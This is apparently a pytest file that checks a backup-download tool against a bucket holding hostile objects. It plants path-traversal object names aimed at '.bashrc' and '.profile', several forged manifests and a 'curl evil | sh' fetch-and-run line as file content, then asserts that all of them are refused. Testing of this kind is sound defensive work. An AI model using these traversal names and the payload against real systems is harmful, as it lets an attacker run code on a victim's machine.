"""Backups in a bucket someone else can write (a worker, today): the real google-cloud-storage client against
gcp-storage-emulator, holding objects crafted to escape the backups folder or to pass for the newest backup."""

from __future__ import annotations

import datetime as dt
import json
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import free_port, serving
from tests.tracker.test_backups import forged, tracker_with_db
from toolkit.errors import LabError
from toolkit.tracker import backups, gcs

storage = pytest.importorskip("google.cloud.storage")

BUCKET = "lab-hostile-bucket"
STACK = "dev"
PREFIX = f"backups/{STACK}/"

# The emulator keeps objects in a store keyed by path and refuses names with `..` segments, which GCS itself
# accepts (only `.` and `..` as whole names are refused). Escaped in its private key, they are stored and
# listed under the very names a hostile writer would give them.
PERMISSIVE_EMULATOR = textwrap.dedent(
    """
    import sys
    from gcp_storage_emulator import storage
    from gcp_storage_emulator.__main__ import main
    norm = storage._FileStore._norm
    storage._FileStore._norm = staticmethod(lambda path: norm(path.replace("..", "%2E%2E")))
    sys.exit(main(sys.argv[1:]))
    """
)


@pytest.fixture(scope="module")
def hostile_emulator() -> Iterator[str]:
    port = free_port()
    argv = [sys.executable, "-c", PERMISSIVE_EMULATOR, "start", "--host", "127.0.0.1", "--port", str(port)]
    yield from serving([*argv, "--in-memory"], port, "the emulator")


@pytest.fixture
def bucket(hostile_emulator: str, monkeypatch: pytest.MonkeyPatch) -> storage.Bucket:
    monkeypatch.setenv("STORAGE_EMULATOR_HOST", hostile_emulator)
    monkeypatch.setenv("GOOGLE_CLOUD_PROJECT", "test-project")
    client = storage.Client()
    found = client.bucket(BUCKET)
    if found.exists():
        for blob in client.list_blobs(BUCKET):
            blob.delete()
        return found
    return client.create_bucket(BUCKET)


def uploaded(tmp_path: Path, name: str) -> backups.Backup:
    made = backups.take(tracker_with_db(tmp_path / f"tracker-{name}"), tmp_path / f"made-{name}", stack=STACK)
    gcs.upload(made, BUCKET, STACK)
    return made


def put(bucket: storage.Bucket, name: str, content: str | bytes) -> None:
    bucket.blob(name).upload_from_string(content)


def test_crafted_objects_never_become_paths_nor_the_newest_backup(tmp_path, bucket, capsys):
    real = uploaded(tmp_path, "real")
    # A folder that sorts after every timestamp, with a file that climbs out of the backups folder.
    put(bucket, f"{PREFIX}zzz/manifest.json", forged("zzz"))
    put(bucket, f"{PREFIX}zzz/../../../.bashrc", "curl evil | sh\n")
    # An extra object beside the real backup's files, climbing out too.
    put(bucket, f"{PREFIX}{real.manifest.id}/../../../../.profile", "curl evil | sh\n")
    # Newer ids: not a time; dated in the future; a manifest that names a file outside.
    put(bucket, f"{PREFIX}99999999T999999.999999Z/manifest.json", forged("99999999T999999.999999Z"))
    put(bucket, f"{PREFIX}29991231T235959.999999Z/manifest.json", forged("29991231T235959.999999Z"))
    newer = backups.new_id(real.manifest.created_at + dt.timedelta(seconds=1))
    document = json.loads(forged(newer))
    document["files"] = [{"name": "../../../.bashrc", "size": 15, "sha256": "0" * 64, "integrity": "ok"}]
    put(bucket, f"{PREFIX}{newer}/manifest.json", json.dumps(document))
    put(bucket, f"{PREFIX}{newer}/../../../.bashrc", "curl evil | sh\n")

    home = tmp_path / "home" / "stacks" / STACK
    try:
        fetched = gcs.download(BUCKET, STACK, home / "backups")
    finally:
        assert not [p for p in tmp_path.rglob("*") if p.name in (".bashrc", ".profile")], "written outside"
    assert fetched.manifest.id == real.manifest.id
    assert sorted(p.name for p in fetched.path.iterdir()) == ["manifest.json", "mlflow.db"]
    assert gcs.complete_ids(BUCKET, STACK) == [newer, real.manifest.id]
    assert [p.name for p in (home / "backups").iterdir()] == [real.manifest.id]
    warned = capsys.readouterr().err
    assert f"skipping it: the manifest of backup {newer} in gs://{BUCKET} is damaged" in warned
    assert "29991231T235959.999999Z/: it is dated in the future" in warned
    with pytest.raises(LabError, match="no backup 'zzz'"):
        gcs.download(BUCKET, STACK, home / "backups", "zzz")


def test_a_damaged_manifest_in_the_bucket_is_skipped_with_a_warning(tmp_path, bucket, capsys):
    older = uploaded(tmp_path, "older")
    newer = uploaded(tmp_path, "newer")
    put(bucket, f"{PREFIX}{newer.manifest.id}/manifest.json", '{"id": 7')
    since = older.manifest.created_at
    assert gcs.wait_for_backup(BUCKET, STACK, since=since, reason="manual", timeout=0) == older.manifest.id
    fetched = gcs.download(BUCKET, STACK, tmp_path / "backups")
    assert fetched.manifest == older.manifest
    assert f"warning: skipping it: the manifest of backup {newer.manifest.id}" in capsys.readouterr().err
    with pytest.raises(LabError, match=f"the manifest of backup {newer.manifest.id} in gs://{BUCKET} is damaged"):
        gcs.download(BUCKET, STACK, tmp_path / "backups", newer.manifest.id)


def test_a_download_is_on_disk_before_it_is_called_verified(tmp_path, bucket, disk_events):
    events = disk_events
    made = uploaded(tmp_path, "real")
    fetched = gcs.download(BUCKET, STACK, tmp_path / "backups")
    (verified,) = [i for i, (what, _) in enumerate(events) if what == "verify"]
    incoming = events[verified][1]
    flushed_before = {path for what, path in events[:verified] if what == "fsync"}
    assert {f"{incoming}/mlflow.db", f"{incoming}/manifest.json", incoming} <= flushed_before
    assert ("fsync", str(tmp_path / "backups")) in events[verified:], "the rename into place is flushed too"
    assert fetched.manifest == made.manifest
